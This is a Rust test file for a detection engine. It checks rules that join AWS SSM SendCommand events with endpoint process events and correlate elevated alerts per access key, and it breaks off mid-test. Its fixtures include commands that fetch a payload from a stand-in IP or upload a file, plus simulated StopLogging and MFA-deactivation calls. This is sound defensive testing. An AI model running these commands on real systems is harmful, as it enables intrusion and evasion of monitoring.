//! The cross-source and higher-order rules as real components: 35 joins a
//! CloudTrail `SendCommand` with Elastic Defend process events on the SSM
//! command id; 42 reads ferrule's own alerts (fed back by the host) and
//! joins rule 38's alert with another elevated alert for the same long-term
//! key. Ends with the hand-written attack scenario through the `ferrule`
//! binary.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use ferrule::alert::Alert;
use ferrule_tests::{
    Harness, cloudtrail, event, ferrule_bin, root, rules_dir, shared_testdata, summary, with,
};
use serde_json::{Value, json};

const BASE_MS: i64 = 1_777_636_800_000; // 2026-05-01T12:00:00Z
const SECOND: i64 = 1000;
const MINUTE: i64 = 60 * SECOND;
const HOUR: i64 = 60 * MINUTE;
const LATENESS_MS: i64 = 60_000;

fn time(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(BASE_MS + ms)
        .unwrap()
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
}

fn harness(rules: &[&str]) -> Harness {
    Harness::with_lateness(&rules_dir(), rules, LATENESS_MS)
}

/// Runs `batches` one after another through the pipeline, then ends it.
fn run_batches(harness: &mut Harness, batches: &[&[Value]]) -> Vec<Alert> {
    for batch in batches {
        harness
            .pipeline
            .process(batch.iter().map(event).collect())
            .unwrap();
    }
    harness.pipeline.finish().unwrap();
    harness.sink.0.lock().unwrap().clone()
}

fn of<'a>(alerts: &'a [Alert], slug: &str) -> Vec<&'a Alert> {
    alerts.iter().filter(|a| a.rule.slug == slug).collect()
}

fn texts(value: &Value) -> Vec<&str> {
    value
        .as_array()
        .unwrap_or_else(|| panic!("{value} is not a list"))
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect()
}

// ---------------------------------------------------------------------------
// 35. ssm-sendcommand-lolbin-execution
// ---------------------------------------------------------------------------

const SSM: &str = "ssm-sendcommand-lolbin-execution";
const COMMAND: &str = "5d9c2f31-8a4b-4e6c-b1d7-3f0e9a8c7b6d";
const OTHER_COMMAND: &str = "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9";
const INSTANCE: &str = "i-0123456789abcdef0";

/// A `SendCommand` of `document` that got command id `command`, `ms` after
/// the base time.
fn send_command(id: &str, command: &str, ms: i64, document: &str) -> Value {
    let record = with(
        cloudtrail(id, "ssm.amazonaws.com", "SendCommand"),
        "eventTime",
        json!(time(ms)),
    );
    let record = with(
        record,
        "requestParameters",
        json!({"instanceIds": [INSTANCE], "documentName": document, "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
               "interactive": false}),
    );
    with(
        record,
        "responseElements",
        json!({"command": {"commandId": command, "documentName": document, "documentVersion": "$DEFAULT",
               "instanceIds": [INSTANCE], "status": "Pending", "targetCount": 1, "timeoutSeconds": 3600}}),
    )
}

/// The SSM agent's script path for a command.
fn script(command: &str) -> String {
    format!(
        "/var/lib/amazon/ssm/{INSTANCE}/document/orchestration/{command}/awsrunShellScript/0.awsrunShellScript/_script.sh"
    )
}

/// An Elastic Defend process start on `os`, `ms` after the base time.
fn process(id: &str, name: &str, command_line: &str, parent: &str, ms: i64, os: &str) -> Value {
    json!({
        "@timestamp": time(ms),
        "data_stream": {"dataset": "endpoint.events.process", "type": "logs", "namespace": "default"},
        "event": {"id": id, "kind": "event", "category": ["process"], "type": ["start"], "action": "exec",
                  "dataset": "endpoint.events.process"},
        "host": {"name": "web-01", "os": {"type": os}},
        "process": {"name": name, "executable": format!("/usr/bin/{name}"), "command_line": command_line, "pid": 4242,
                    "parent": {"command_line": parent, "pid": 4200}},
        "user": {"name": "root"}
    })
}

/// `curl` started by the command's script.
fn curl(id: &str, command: &str, ms: i64) -> Value {
    process(
        id,
        "curl",
        "curl -fsSL http://198.51.100.99/k.sh -o /tmp/.k",
        &format!("/bin/sh {}", script(command)),
        ms,
        "linux",
    )
}

fn ssm_alerts(records: &[Value]) -> Vec<(String, Vec<String>)> {
    summary(&harness(&[SSM]).run(records))
}

fn fired(evidence: &[&str]) -> Vec<(String, Vec<String>)> {
    vec![(
        SSM.to_owned(),
        evidence.iter().map(|e| e.to_string()).collect(),
    )]
}

#[test]
fn ssm_send_command_then_lolbin_fires_with_both_sides_reported() {
    let alerts = harness(&[SSM]).run(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        process(
            "p-shell",
            "sh",
            &format!("/bin/sh {}", script(COMMAND)),
            "/usr/bin/ssm-document-worker",
            2 * SECOND,
            "linux",
        ),
        curl("p-curl", COMMAND, 30 * SECOND),
    ]);
    assert_eq!(summary(&alerts), fired(&["ct-1", "p-curl"]));
    let alert = &alerts[0];
    assert_eq!(
        alert.timestamp_ms,
        BASE_MS + 30 * SECOND,
        "stamped with the event that completed the join"
    );
    assert_eq!(alert.group["ferrule.ssm.command_id"], COMMAND);
    let fields = &alert.fields;
    assert_eq!(
        fields["aws.cloudtrail.user_identity.arn"],
        "arn:aws:iam::123456789012:user/alice"
    );
    assert_eq!(
        fields["aws.cloudtrail.user_identity.access_key_id"],
        "AKIAEXAMPLEALICE0001"
    );
    assert_eq!(
        fields["user.name"], "alice",
        "the caller's user, not the endpoint's"
    );
    assert_eq!(texts(&fields["ferrule.ssm.endpoint_user_names"]), ["root"]);
    assert_eq!(texts(&fields["host.name"]), ["web-01"]);
    assert_eq!(texts(&fields["process.name"]), ["curl"]);
    assert_eq!(
        texts(&fields["process.command_line"]),
        ["curl -fsSL http://198.51.100.99/k.sh -o /tmp/.k"]
    );
    assert_eq!(fields["ferrule.ssm.send_command_count"], 1);
    assert_eq!(fields["ferrule.ssm.lolbin_count"], 1);
    assert_eq!(fields["ferrule.ssm.ssm_shell_count"], 1);
    assert_eq!(
        texts(&fields["ferrule.ssm.ssm_shell_command_lines"]),
        [format!("/bin/sh {}", script(COMMAND))]
    );
    assert_eq!(
        fields["ferrule.ssm.send_command_first"],
        "2026-05-01T12:00:00.000Z"
    );
    assert_eq!(
        fields["ferrule.ssm.lolbin_first"],
        "2026-05-01T12:00:30.000Z"
    );
    assert!(
        alert.message.contains(COMMAND) && alert.message.contains("curl"),
        "{}",
        alert.message
    );
}

#[test]
fn ssm_lolbin_before_the_send_command_fires_too() {
    let alerts = ssm_alerts(&[
        curl("p-curl", COMMAND, 0),
        process(
            "p-b64",
            "base64",
            "base64 -d /tmp/.k",
            &format!("/bin/sh {}", script(COMMAND)),
            20 * SECOND,
            "linux",
        ),
        send_command("ct-1", COMMAND, 5 * MINUTE, "AWS-RunShellScript"),
    ]);
    assert_eq!(alerts, fired(&["p-curl", "p-b64", "ct-1"]));
}

#[test]
fn ssm_the_two_sides_must_be_within_ten_minutes_either_way() {
    let exactly = ssm_alerts(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        curl("p-1", COMMAND, 10 * MINUTE),
    ]);
    assert_eq!(exactly, fired(&["ct-1", "p-1"]), "10 minutes is within");
    let after = ssm_alerts(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        curl("p-1", COMMAND, 10 * MINUTE + SECOND),
    ]);
    assert_eq!(after, vec![], "lolbin 10 min + 1 s after");
    let before = ssm_alerts(&[
        curl("p-1", COMMAND, 0),
        send_command("ct-1", COMMAND, 10 * MINUTE + SECOND, "AWS-RunShellScript"),
    ]);
    assert_eq!(before, vec![], "lolbin 10 min + 1 s before");
}

#[test]
fn ssm_a_process_whose_parent_is_not_an_ssm_script_does_not_join() {
    let alerts = ssm_alerts(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        process(
            "p-1",
            "curl",
            "curl -fsSL https://example.com",
            "/bin/bash ./deploy.sh",
            10 * SECOND,
            "linux",
        ),
        // The command id only in the process's own command line does not count.
        process(
            "p-2",
            "curl",
            &format!("curl -F f=@{}", script(COMMAND)),
            "/bin/bash",
            20 * SECOND,
            "linux",
        ),
    ]);
    assert_eq!(alerts, vec![]);
}

#[test]
fn ssm_other_documents_do_not_alert() {
    for document in [
        "AWS-RunPowerShellScript",
        "AWS-RunPatchBaseline",
        "aws-runshellscript",
    ] {
        let alerts = ssm_alerts(&[
            send_command("ct-1", COMMAND, 0, document),
            curl("p-1", COMMAND, 30 * SECOND),
        ]);
        assert_eq!(alerts, vec![], "{document}");
    }
    let by_arn = ssm_alerts(&[
        send_command(
            "ct-1",
            COMMAND,
            0,
            "arn:aws:ssm:us-east-1::document/AWS-RunShellScript",
        ),
        curl("p-1", COMMAND, 30 * SECOND),
    ]);
    assert_eq!(
        by_arn,
        fired(&["ct-1", "p-1"]),
        "the document named by its ARN"
    );
}

#[test]
fn ssm_windows_and_other_hosts_do_not_alert() {
    let parent = format!("/bin/sh {}", script(COMMAND));
    let alerts = ssm_alerts(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        process(
            "p-win",
            "curl",
            "curl http://198.51.100.99/k",
            &parent,
            10 * SECOND,
            "windows",
        ),
        process(
            "p-mac",
            "curl",
            "curl http://198.51.100.99/k",
            &parent,
            20 * SECOND,
            "macos",
        ),
    ]);
    assert_eq!(alerts, vec![]);
}

#[test]
fn ssm_a_different_command_id_does_not_join() {
    let alerts = ssm_alerts(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        curl("p-1", OTHER_COMMAND, 30 * SECOND),
    ]);
    assert_eq!(alerts, vec![]);
}

#[test]
fn ssm_the_script_shell_alone_and_ordinary_processes_do_not_fire() {
    let shell = format!("/bin/sh {}", script(COMMAND));
    let alerts = ssm_alerts(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        process(
            "p-shell",
            "sh",
            &shell,
            &format!("/usr/bin/ssm-document-worker {COMMAND}"),
            2 * SECOND,
            "linux",
        ),
        process(
            "p-apt",
            "apt-get",
            "apt-get update",
            &shell,
            5 * SECOND,
            "linux",
        ),
        process("p-bash", "bash", "bash -c id", &shell, 6 * SECOND, "linux"),
        process(
            "p-curlish",
            "curl.sh",
            "curl.sh",
            &shell,
            7 * SECOND,
            "linux",
        ),
    ]);
    assert_eq!(alerts, vec![]);
}

#[test]
fn ssm_a_failed_send_command_has_no_command_id_and_never_joins() {
    let failed = with(
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        "responseElements",
        Value::Null,
    );
    let failed = with(failed, "errorCode", json!("AccessDenied"));
    assert_eq!(
        ssm_alerts(&[failed, curl("p-1", COMMAND, 30 * SECOND)]),
        vec![]
    );
}

#[test]
fn ssm_one_alert_per_command_per_ten_minutes_and_the_held_count_is_carried() {
    let alerts = harness(&[SSM]).run(&[
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        curl("p-1", COMMAND, 10 * SECOND),
        process(
            "p-2",
            "wget",
            "wget http://198.51.100.99/x",
            &format!("/bin/sh {}", script(COMMAND)),
            20 * SECOND,
            "linux",
        ),
        curl("p-3", COMMAND, 9 * MINUTE),
        // A second SendCommand re-using nothing: a new command, its own alert.
        send_command("ct-2", OTHER_COMMAND, 11 * MINUTE, "AWS-RunShellScript"),
        curl("p-4", OTHER_COMMAND, 11 * MINUTE + SECOND),
    ]);
    assert_eq!(
        summary(&alerts),
        [
            (SSM.to_owned(), vec!["ct-1".to_owned(), "p-1".to_owned()]),
            (SSM.to_owned(), vec!["ct-2".to_owned(), "p-4".to_owned()])
        ]
    );
    assert_eq!(alerts[0].fields["ferrule.suppressed_count"], 0);
}

#[test]
fn ssm_arrival_order_within_the_lateness_does_not_change_the_alert() {
    let records = [
        send_command("ct-1", COMMAND, 0, "AWS-RunShellScript"),
        curl("p-1", COMMAND, 20 * SECOND),
        curl("p-2", COMMAND, 40 * SECOND),
    ];
    let in_order = harness(&[SSM]).run(&records);
    let reversed: Vec<Value> = records.iter().rev().cloned().collect();
    let out_of_order = harness(&[SSM]).run(&reversed);
    assert_eq!(summary(&in_order), fired(&["ct-1", "p-1"]));
    assert_eq!(in_order, out_of_order);
}

#[test]
fn ssm_real_cloudtrail_send_commands_join_on_their_command_ids() {
    let Some(shared) = shared_testdata() else {
        return;
    };
    let line = |path: &str, action: &str| -> Value {
        let text = std::fs::read_to_string(shared.join(path)).unwrap();
        let line = text
            .lines()
            .find(|l| l.contains(&format!("\"eventName\":\"{action}\"")))
            .unwrap();
        serde_json::from_str(line).unwrap()
    };
    let at = |record: &Value, seconds: i64| -> i64 {
        let time =
            chrono::DateTime::parse_from_rfc3339(record["eventTime"].as_str().unwrap()).unwrap();
        time.timestamp_millis() + seconds * SECOND - BASE_MS
    };

    // Stratus Red Team's SendCommand of AWS-RunShellScript.
    let stratus = line(
        "cloudtrail/stratus-red-team/aws.execution.ssm-send-command.ndjson",
        "SendCommand",
    );
    let id = stratus["responseElements"]["command"]["commandId"]
        .as_str()
        .unwrap();
    let lolbin = curl("p-1", id, at(&stratus, 20));
    assert_eq!(
        ssm_alerts(&[stratus.clone(), lolbin]),
        fired(&[stratus["eventID"].as_str().unwrap(), "p-1"])
    );

    // Elastic's sample: a patch-baseline document run by State Manager.
    let patch = line(
        "cloudtrail/elastic-integrations/test-send-command-all-json.ndjson",
        "SendCommand",
    );
    let id = patch["responseElements"]["command"]["commandId"]
        .as_str()
        .unwrap();
    assert_eq!(
        ssm_alerts(&[patch.clone(), curl("p-1", id, at(&patch, 20))]),
        vec![]
    );
}

// ---------------------------------------------------------------------------
// 42. long-term-key-correlated-elevated-alerts
// ---------------------------------------------------------------------------

const CORRELATED: &str = "long-term-key-correlated-elevated-alerts";
const FIRST_SEEN: &str = "long-term-key-first-seen-source-ip";
const STOP_LOGGING: &str = "cloudtrail-stop-logging";
const MFA_DEACTIVATED: &str = "iam-mfa-device-deactivated";
const TRAIL_CREATED: &str = "cloudtrail-trail-created";
/// 42 with the rules whose alerts it reads: 38 (the anchor), two high/73
/// single-event rules and a low/21 one.
const WITH_COMPANIONS: &[&str] = &[
    FIRST_SEEN,
    STOP_LOGGING,
    MFA_DEACTIVATED,
    TRAIL_CREATED,
    CORRELATED,
];

const KEY: &str = "AKIAEXAMPLEALICE0001";
const OTHER_KEY: &str = "AKIAEXAMPLEBOB000002";
const HOME: &str = "198.51.100.7";
const NEW_ADDRESS: &str = "203.0.113.77";

/// A successful call with `key` from `ip`, `ms` after the base time.
fn call(id: &str, source: &str, action: &str, key: &str, ip: &str, ms: i64) -> Value {
    let record = with(cloudtrail(id, source, action), "eventTime", json!(time(ms)));
    let record = with(record, "userIdentity.accessKeyId", json!(key));
    with(record, "sourceIPAddress", json!(ip))
}

fn stop_logging(id: &str, key: &str, ip: &str, ms: i64) -> Value {
    call(id, "cloudtrail.amazonaws.com", "StopLogging", key, ip, ms)
}

fn whoami(id: &str, key: &str, ip: &str, ms: i64) -> Value {
    call(id, "sts.amazonaws.com", "GetCallerIdentity", key, ip, ms)
}

/// A call no loaded rule alerts on, `ms` after the base time: the stream
/// going on.
fn quiet(ms: i64) -> Value {
    call(
        "tail",
        "ec2.amazonaws.com",
        "DescribeRegions",
        "ASIAEXAMPLETAIL00001",
        HOME,
        ms,
    )
}

/// 42 and its companions over `records`, followed by a quiet call two
/// minutes after the last of them, so that every alert reaches 42 while
/// the input is still open (see
/// `correlated_alerts_completed_at_the_end_of_input_still_join`).
fn correlated(records: &[Value]) -> (Vec<Alert>, Vec<Alert>) {
    let last = records
        .iter()
        .map(|r| {
            chrono::DateTime::parse_from_rfc3339(r["eventTime"].as_str().unwrap())
                .unwrap()
                .timestamp_millis()
        })
        .max()
        .unwrap();
    let mut records = records.to_vec();
    records.push(quiet(last - BASE_MS + 2 * MINUTE));
    let alerts = harness(WITH_COMPANIONS).run(&records);
    let (ours, others) = alerts.into_iter().partition(|a| a.rule.slug == CORRELATED);
    (ours, others)
}

/// `(slug, evidence)` of each alert, sorted: alerts of single-event rules
/// are written before those of stateful rules released later.
fn sorted_summary(alerts: &[Alert]) -> Vec<(String, Vec<String>)> {
    let mut summary = summary(alerts);
    summary.sort();
    summary
}

fn pairs(expected: &[(&str, &[&str])]) -> Vec<(String, Vec<String>)> {
    let mut pairs: Vec<(String, Vec<String>)> = expected
        .iter()
        .map(|(slug, ids)| {
            (
                slug.to_string(),
                ids.iter().map(|i| i.to_string()).collect(),
            )
        })
        .collect();
    pairs.sort();
    pairs
}

fn alert_id(alerts: &[Alert], slug: &str) -> String {
    let found = of(alerts, slug);
    assert_eq!(
        found.len(),
        1,
        "one {slug} alert expected in {:?}",
        summary(alerts)
    );
    found[0].id.clone()
}

#[test]
fn correlated_anchor_then_elevated_alert_for_the_same_key_fires() {
    let (ours, others) = correlated(&[
        whoami("e-1", KEY, NEW_ADDRESS, 0),
        stop_logging("e-2", KEY, NEW_ADDRESS, MINUTE),
    ]);
    assert_eq!(
        sorted_summary(&others),
        pairs(&[(FIRST_SEEN, &["e-1"][..]), (STOP_LOGGING, &["e-2"][..])])
    );
    assert_eq!(
        summary(&ours),
        [(
            CORRELATED.to_owned(),
            vec!["e-1".to_owned(), "e-2".to_owned()]
        )]
    );
    let alert = &ours[0];
    assert_eq!(
        alert.group["aws.cloudtrail.user_identity.access_key_id"],
        KEY
    );
    assert_eq!(
        texts(&alert.fields["ferrule.alert_ids"]),
        [
            alert_id(&others, FIRST_SEEN),
            alert_id(&others, STOP_LOGGING)
        ]
    );
    assert_eq!(alert.fields["ferrule.correlated.anchor_alert_count"], 1);
    assert_eq!(alert.fields["ferrule.correlated.elevated_alert_count"], 1);
    assert_eq!(
        texts(&alert.fields["ferrule.correlated.rule_slugs"]),
        [FIRST_SEEN, STOP_LOGGING]
    );
    assert_eq!(
        texts(&alert.fields["ferrule.correlated.severities"]),
        ["medium", "high"]
    );
    assert_eq!(
        alert.fields["ferrule.correlated.risk_scores"],
        json!([47, 73])
    );
    assert_eq!(texts(&alert.fields["source.ip"]), [NEW_ADDRESS]);
    assert_eq!(
        alert.fields["ferrule.correlated.first"],
        "2026-05-01T12:00:00.000Z"
    );
    assert_eq!(
        alert.fields["ferrule.correlated.last"],
        "2026-05-01T12:01:00.000Z"
    );
    assert_eq!(
        alert.timestamp_ms,
        BASE_MS + MINUTE,
        "stamped with the latest joined alert"
    );
    assert_eq!(alert.rule.severity, "high");
    assert_eq!(alert.rule.risk_score, 73);
}

#[test]
fn correlated_alerts_for_different_keys_do_not_join() {
    let (ours, others) = correlated(&[
        // The other key was first seen from its address two days before:
        // its own anchor is long closed.
        whoami("b-0", OTHER_KEY, HOME, -48 * HOUR),
        whoami("a-1", KEY, NEW_ADDRESS, 0),
        stop_logging("b-1", OTHER_KEY, HOME, MINUTE),
    ]);
    assert_eq!(
        sorted_summary(&others),
        pairs(&[
            (FIRST_SEEN, &["b-0"][..]),
            (FIRST_SEEN, &["a-1"][..]),
            (STOP_LOGGING, &["b-1"][..])
        ])
    );
    assert_eq!(summary(&ours), vec![]);
}

#[test]
fn correlated_an_anchor_alone_does_not_fire() {
    let (ours, others) = correlated(&[
        whoami("e-1", KEY, NEW_ADDRESS, 0),
        whoami("e-2", KEY, HOME, MINUTE),
    ]);
    assert_eq!(
        of(&others, FIRST_SEEN).len(),
        2,
        "two anchors, no elevated alert"
    );
    assert_eq!(summary(&ours), vec![]);
}

#[test]
fn correlated_elevated_alerts_without_an_open_anchor_do_not_fire() {
    let (ours, others) = correlated(&[
        whoami("e-0", KEY, HOME, -25 * HOUR),
        stop_logging("e-1", KEY, HOME, 0),
        call(
            "e-2",
            "iam.amazonaws.com",
            "DeactivateMFADevice",
            KEY,
            HOME,
            MINUTE,
        ),
    ]);
    assert_eq!(
        sorted_summary(&others),
        pairs(&[
            (FIRST_SEEN, &["e-0"][..]),
            (STOP_LOGGING, &["e-1"][..]),
            (MFA_DEACTIVATED, &["e-2"][..])
        ])
    );
    assert_eq!(
        summary(&ours),
        vec![],
        "the anchor 25 hours before is not open"
    );
}

#[test]
fn correlated_a_low_severity_companion_does_not_fire() {
    let (ours, others) = correlated(&[
        whoami("e-1", KEY, NEW_ADDRESS, 0),
        call(
            "e-2",
            "cloudtrail.amazonaws.com",
            "CreateTrail",
            KEY,
            NEW_ADDRESS,
            MINUTE,
        ),
    ]);
    assert_eq!(
        sorted_summary(&others),
        pairs(&[(FIRST_SEEN, &["e-1"][..]), (TRAIL_CREATED, &["e-2"][..])])
    );
    assert_eq!(summary(&ours), vec![]);
}

#[test]
fn correlated_an_elevated_alert_before_the_anchor_in_event_time_fires() {
    let (ours, others) = correlated(&[
        whoami("e-0", KEY, HOME, -48 * HOUR),
        stop_logging("e-1", KEY, HOME, 0),
        whoami("e-2", KEY, NEW_ADDRESS, 10 * MINUTE),
    ]);
    assert_eq!(
        summary(&ours),
        [(
            CORRELATED.to_owned(),
            vec!["e-1".to_owned(), "e-2".to_owned()]
        )]
    );
    let anchors = of(&others, FIRST_SEEN);
    assert_eq!(anchors.len(), 2);
    assert_eq!(
        texts(&ours[0].fields["ferrule.alert_ids"]),
        [alert_id(&others, STOP_LOGGING), anchors[1].id.clone()]
    );
}

#[test]
fn correlated_alerts_completed_at_the_end_of_input_still_join() {
    // Nothing after the anchor's event: rule 38 emits its alert from
    // finish(), and 42 must still find the StopLogging alert it stored.
    let alerts = harness(WITH_COMPANIONS).run(&[
        whoami("e-0", KEY, HOME, -48 * HOUR),
        stop_logging("e-1", KEY, HOME, 0),
        whoami("e-2", KEY, NEW_ADDRESS, 10 * MINUTE),
    ]);
    let ours = of(&alerts, CORRELATED);
    assert_eq!(ours.len(), 1, "{:?}", summary(&alerts));
    assert_eq!(ours[0].evidence, ["e-1", "e-2"]);
}

#[test]
fn correlated_an_elevated_alert_arriving_late_still_joins_a_later_anchor() {
    // The StopLogging record arrives long after the watermark passed it:
    // its alert reaches 42 after the anchor, though it is earlier in event
    // time. The join looks forward as well as back.
    let mut harness = harness(WITH_COMPANIONS);
    let alerts = run_batches(
        &mut harness,
        &[
            &[whoami("e-0", KEY, HOME, -48 * HOUR)],
            &[whoami("e-2", KEY, NEW_ADDRESS, 10 * MINUTE)],
            &[whoami("x-1", OTHER_KEY, HOME, 20 * MINUTE)],
            &[stop_logging("e-1", KEY, HOME, 0)],
        ],
    );
    let ours = of(&alerts, CORRELATED);
    assert_eq!(ours.len(), 1, "{:?}", summary(&alerts));
    assert_eq!(
        ours[0].evidence,
        ["e-1", "e-2"],
        "evidence in event-time order of the joined alerts"
    );
    assert_eq!(harness.pipeline.stats().late_events, 1);
}

#[test]
fn correlated_alerts_are_open_for_twenty_four_hours() {
    let within = correlated(&[
        whoami("e-1", KEY, NEW_ADDRESS, 0),
        stop_logging("e-2", KEY, NEW_ADDRESS, 24 * HOUR),
    ])
    .0;
    assert_eq!(
        summary(&within),
        [(
            CORRELATED.to_owned(),
            vec!["e-1".to_owned(), "e-2".to_owned()]
        )]
    );
    let beyond = correlated(&[
        whoami("e-1", KEY, NEW_ADDRESS, 0),
        stop_logging("e-2", KEY, NEW_ADDRESS, 24 * HOUR + SECOND),
    ])
    .0;
    assert_eq!(summary(&beyond), vec![]);
}

#[test]
fn correlated_repeats_for_a_key_are_suppressed_for_a_day_and_counted() {
    let (ours, others) = correlated(&[
        whoami("e-1", KEY, NEW_ADDRESS, 0),
        stop_logging("e-2", KEY, NEW_ADDRESS, MINUTE),
        call(
            "e-3",
            "iam.amazonaws.com",
            "DeactivateMFADevice",
            KEY,
            NEW_ADDRESS,
            2 * MINUTE,
        ),
        // A day and a half later: a new address and a new stop.
        whoami("e-4", KEY, "192.0.2.10", 36 * HOUR),
        stop_logging("e-5", KEY, "192.0.2.10", 36 * HOUR + MINUTE),
    ]);
    assert_eq!(others.len(), 5);
    assert_eq!(
        summary(&ours),
        [
            (
                CORRELATED.to_owned(),
                vec!["e-1".to_owned(), "e-2".to_owned()]
            ),
            (
                CORRELATED.to_owned(),
                vec!["e-4".to_owned(), "e-5".to_owned()]
            )
        ]
    );
    assert_eq!(ours[0].fields["ferrule.suppressed_count"], 0);
    assert_eq!(
        ours[1].fields["ferrule.suppressed_count"], 1,
        "the MFA deactivation was held back"
    );
}

#[test]
fn correlated_temporary_keys_never_take_part() {
    let temporary = "ASIAEXAMPLEALICE0001";
    let (ours, others) = correlated(&[
        whoami("e-1", temporary, NEW_ADDRESS, 0),
        stop_logging("e-2", temporary, NEW_ADDRESS, MINUTE),
    ]);
    assert_eq!(
        summary(&others),
        [(STOP_LOGGING.to_owned(), vec!["e-2".to_owned()])]
    );
    assert_eq!(summary(&ours), vec![]);
}

#[test]
fn correlated_output_does_not_depend_on_batching() {
    let records = [
        whoami("e-1", KEY, NEW_ADDRESS, 0),
        call(
            "e-2",
            "iam.amazonaws.com",
            "DeactivateMFADevice",
            KEY,
            NEW_ADDRESS,
            3 * MINUTE,
        ),
        stop_logging("e-3", KEY, NEW_ADDRESS, 4 * MINUTE),
        whoami("e-4", OTHER_KEY, HOME, 6 * MINUTE),
    ];
    let one_batch = harness(WITH_COMPANIONS).run(&records);
    let singles: Vec<&[Value]> = records.iter().map(std::slice::from_ref).collect();
    let one_by_one = run_batches(&mut harness(WITH_COMPANIONS), &singles);
    let pairs = run_batches(
        &mut harness(WITH_COMPANIONS),
        &[&records[..2], &records[2..]],
    );
    let sorted = |mut alerts: Vec<Alert>| {
        alerts.sort_by(|a, b| a.id.cmp(&b.id));
        alerts
    };
    let expected = sorted(one_batch);
    assert_eq!(of(&expected, CORRELATED).len(), 1);
    assert_eq!(of(&expected, CORRELATED)[0].evidence, ["e-1", "e-2"]);
    assert_eq!(sorted(one_by_one), expected);
    assert_eq!(sorted(pairs), expected);
}

// ---------------------------------------------------------------------------
// The attack scenario, end to end through the binary
// ---------------------------------------------------------------------------

/// The rules the scenario exercises.
const SCENARIO_RULES: &[&str] = &[
    "long-term-key-first-seen-source-ip",
    "discovery-burst-via-aws-cli",
    "bedrock-model-enum-then-invoke-long-term-key",
    "ssm-sendcommand-lolbin-execution",
    "cloudtrail-stop-logging",
    "long-term-key-correlated-elevated-alerts",
    // Loaded to show they stay quiet on this story.
    "cloudtrail-trail-created",
    "iam-mfa-device-deactivated",
];

fn scenario_rules(name: &str) -> PathBuf {
    let dir = root()
        .join("target/test-scratch")
        .join(format!("{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for rule in SCENARIO_RULES {
        std::fs::copy(
            rules_dir().join(format!("{rule}.wasm")),
            dir.join(format!("{rule}.wasm")),
        )
        .unwrap();
    }
    dir
}

fn run_scenario(rules: &Path, extra: &[&str]) -> Output {
    Command::new(ferrule_bin())
        .args(["run", "--rules"])
        .arg(rules)
        .args(["--lateness", "1m"])
        .args(extra)
        .arg(root().join("examples/sample/attack-scenario.ndjson"))
        .env("FERRULE_LOG", "warn")
        .output()
        .expect("running ferrule")
}

fn stdout_alerts(output: &Output) -> Vec<Value> {
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn by_slug<'a>(alerts: &'a [Value], slug: &str) -> &'a Value {
    let found: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["rule"]["slug"] == slug)
        .collect();
    assert_eq!(found.len(), 1, "exactly one {slug} alert");
    found[0]
}

#[test]
fn the_attack_scenario_alerts_on_every_step_and_correlates_them() {
    let rules = scenario_rules("attack-scenario");
    let output = run_scenario(&rules, &[]);
    let alerts = stdout_alerts(&output);
    let mut found: Vec<(String, Vec<String>)> = alerts
        .iter()
        .map(|a| {
            (
                a["rule"]["slug"].as_str().unwrap().to_owned(),
                texts(&a["evidence"])
                    .iter()
                    .map(|s| s.to_string())
                    .collect(),
            )
        })
        .collect();
    found.sort();
    let expected: Vec<(String, Vec<String>)> = [
        // Fed back: 02 (high), joined with 38's alert for the same key.
        (
            "bedrock-model-enum-then-invoke-long-term-key",
            &["scn-0012", "scn-0013"][..],
        ),
        ("cloudtrail-stop-logging", &["scn-0018"]),
        (
            "discovery-burst-via-aws-cli",
            &[
                "scn-0004", "scn-0005", "scn-0006", "scn-0007", "scn-0008", "scn-0009",
            ],
        ),
        (
            "long-term-key-correlated-elevated-alerts",
            &["scn-0003", "scn-0012", "scn-0013"],
        ),
        ("long-term-key-first-seen-source-ip", &["scn-0003"]),
        (
            "ssm-sendcommand-lolbin-execution",
            &["scn-0014", "scn-0016"],
        ),
    ]
    .iter()
    .map(|(slug, ids)| {
        (
            slug.to_string(),
            ids.iter().map(|s| s.to_string()).collect(),
        )
    })
    .collect();
    assert_eq!(found, expected);

    let key = "AKIA5EXAMPLEDANA0001";
    let anchor = by_slug(&alerts, "long-term-key-first-seen-source-ip");
    assert_eq!(
        anchor["group"]["aws.cloudtrail.user_identity.access_key_id"],
        key
    );
    assert_eq!(anchor["group"]["source.ip"], "203.0.113.77");
    let bedrock = by_slug(&alerts, "bedrock-model-enum-then-invoke-long-term-key");
    let higher = by_slug(&alerts, "long-term-key-correlated-elevated-alerts");
    assert_eq!(
        higher["group"]["aws.cloudtrail.user_identity.access_key_id"],
        key
    );
    assert_eq!(
        texts(&higher["fields"]["ferrule.alert_ids"]),
        [
            anchor["id"].as_str().unwrap(),
            bedrock["id"].as_str().unwrap()
        ],
        "lists the alerts it joins"
    );
    // Its evidence is exactly the evidence of the two alerts it joins.
    let mut behind: Vec<&str> = texts(&anchor["evidence"]);
    behind.extend(texts(&bedrock["evidence"]));
    assert_eq!(texts(&higher["evidence"]), behind);
    assert_eq!(higher["@timestamp"], bedrock["@timestamp"]);
    // The later elevated alerts for the key (35, 33) were held back.
    assert_eq!(
        by_slug(&alerts, "ssm-sendcommand-lolbin-execution")["fields"]["aws.cloudtrail.user_identity.access_key_id"],
        key
    );
    assert_eq!(
        by_slug(&alerts, "cloudtrail-stop-logging")["fields"]["aws.cloudtrail.user_identity.access_key_id"],
        key
    );

